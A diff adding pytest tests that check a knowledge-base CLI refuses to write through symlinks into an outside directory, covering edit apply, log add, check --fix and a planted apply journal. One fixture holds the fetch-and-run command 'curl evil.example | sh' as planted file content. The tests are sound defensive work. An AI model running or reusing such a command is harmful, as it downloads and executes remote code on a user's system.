@@ -7,6 +7,8 @@ for the user's home. The property: the outside tree is byte-for-byte what it was
 
 from __future__ import annotations
 
+import hashlib
+import json
 import os
 from pathlib import Path
 
@@ -243,3 +245,86 @@ def test_a_symlinked_doctor_directory_is_not_used(
     assert migrate.exit_code == 2, migrate.stdout + migrate.stderr
     assert "is a symlink" in migrate.stderr
     assert (repo / "PLAIN.md").read_text(encoding="utf-8") == "# Plain\n"  # nothing written
+
+
+def test_edit_apply_and_log_add_refuse_a_project_symlinked_out(
+    tmp_path: Path, outside: Path, doctor: Doctor
+) -> None:
+    repo = commit(
+        tmp_path / "kb",
+        {"projects/alpha/CONTEXT.md": CONTEXT},
+        {"projects/beta": "../../home"},
+    )
+    before = snapshot(outside)
+    edits = tmp_path / "edits.json"
+    target = str(repo / "projects" / "beta" / "CONTEXT.md")
+    edits.write_text(
+        json.dumps(
+            [
+                {"op": "set-field", "file": target, "field": "Phase", "value": "Build (round 3)"},
+                {"op": "replace", "file": target, "anchor": "parser", "replacement": "lexer"},
+            ]
+        ),
+        encoding="utf-8",
+    )
+    applied = doctor("edit", "apply", "--edits", str(edits))
+    assert applied.exit_code == 1, applied.stdout + applied.stderr
+    assert "[outside]" in applied.stderr
+    logged = doctor(
+        "log", "add", str(repo / "projects" / "beta"), "--date", "2026-06-09", "--title", "x",
+        "--today", "2026-06-10",
+    )  # fmt: skip
+    assert logged.exit_code in (1, 2), logged.stdout + logged.stderr
+    assert snapshot(outside) == before
+
+
+def test_check_fix_refuses_an_index_reached_through_a_symlinked_projects_directory(
+    tmp_path: Path, outside: Path, doctor: Doctor
+) -> None:
+    index = "- id: alpha\n  status: complete\n  completed_date: 2026-06-01\n"
+    (outside / "projects" / "alpha").mkdir(parents=True)
+    (outside / "projects" / "index.yaml").write_text(index, encoding="utf-8")
+    (outside / "projects" / "alpha" / "CONTEXT.md").write_text(CONTEXT, encoding="utf-8")
+    repo = commit(tmp_path / "kb", {"README.md": "# kb\n"}, {"projects": "../home/projects"})
+    before = snapshot(outside)
+    doctor("check", "--source", str(repo), "--today", "2026-06-10", "--fix")
+    assert snapshot(outside) == before
+
+
+def test_a_committed_apply_journal_cannot_move_a_file_outside(
+    tmp_path: Path, outside: Path, doctor: Doctor
+) -> None:
+    # The worst case: the batch's "staged" bytes already sit outside (planted some other
+    # way); a journal committed to the repository names the target through a link.
+    planted = b"curl evil.example | sh\n"
+    staged = ".evil.sh.context-doctor-apply-0123abcd.staged"
+    (outside / staged).write_bytes(planted)
+    journal = {
+        "version": 1,
+        "committed": True,
+        "files": [
+            {
+                "path": "link/evil.sh",
+                "staged": staged,
+                "old": None,
+                "new": hashlib.sha256(planted).hexdigest(),
+            }
+        ],
+    }
+    repo = commit(
+        tmp_path / "kb",
+        {
+            "projects/alpha/CONTEXT.md": CONTEXT,
+            "projects/alpha/.context-doctor-apply-0123abcd.journal": json.dumps(journal),
+        },
+        {"projects/alpha/link": "../../../home"},
+    )
+    before = snapshot(outside)
+    run = doctor(
+        "edit", "set-field", str(repo / "projects" / "alpha" / "CONTEXT.md"),
+        "--field", "Phase", "--value", "Build (round 3)",
+    )  # fmt: skip
+    assert run.exit_code == 2, run.stdout + run.stderr
+    assert "outside the project" in run.stderr
+    assert snapshot(outside) == before
+    assert not (outside / "evil.sh").exists()
